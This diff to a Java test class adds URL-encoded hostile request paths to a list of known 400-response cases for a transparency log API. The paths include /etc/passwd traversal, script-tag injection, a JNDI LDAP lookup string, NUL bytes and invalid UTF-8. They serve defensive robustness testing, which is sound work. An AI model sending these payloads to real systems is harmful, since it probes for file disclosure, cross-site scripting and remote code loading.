@@ -115,6 +115,23 @@ final class KnownHostileInputIssues {
             "POST /api/admin/projections/..%2F..%2Fetc%2Fpasswd/rebuild (2)",
             "DELETE /api/admin/tokens/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
             "POST /api/admin/projections/%2e%2e%2f%2e%2e%2fetc%2fpasswd/rebuild",
+            // The same Tomcat 400s (encoded '/', NUL, invalid UTF-8 in the path) on the transparency log's paths and entry proofs
+            "GET /tlog/payloads/%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
+            "GET /tlog/payloads/%24%7Bjndi%3Aldap%3A%2F%2Fexample.invalid%2Fa%7D",
+            "GET /tlog/payloads/2016%2F01%2F20",
+            "GET /tlog/payloads/2016-01-20%00",
+            "GET /tlog/tile/0/%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
+            "GET /tlog/tile/0/%00",
+            "GET /tlog/tile/0/%ED%A0%80",
+            "GET /tlog/tile/0/%00 (2)",
+            "GET /tlog/tile/..%2F..%2Fetc%2Fpasswd/000",
+            "GET /tlog/tile/%3Cscript%3Ealert%281%29%3C%2Fscript%3E/000",
+            "GET /tlog/payload-bundles/2016%2F01%2F20",
+            "GET /tlog/payload-bundles/%FF",
+            "GET /api/entries/%24%7Bjndi%3Aldap%3A%2F%2Fexample.invalid%2Fa%7D/proof",
+            "GET /api/entries/%C3%28/proof",
+            "GET /tlog/tile/0/..%2F..%2Fetc%2Fpasswd",
+            "GET /tlog/tile/0/000%00",
             // Spring Security's StrictHttpFirewall rejects the path ('..', '.', '//', ';', '%25', encoded '.', CR/LF or NUL) and Spring Boot's /error answers application/json {timestamp,status,error,path}, not problem+json
             "GET /api/crcs/west-yorkshire/timeline/..");
 }
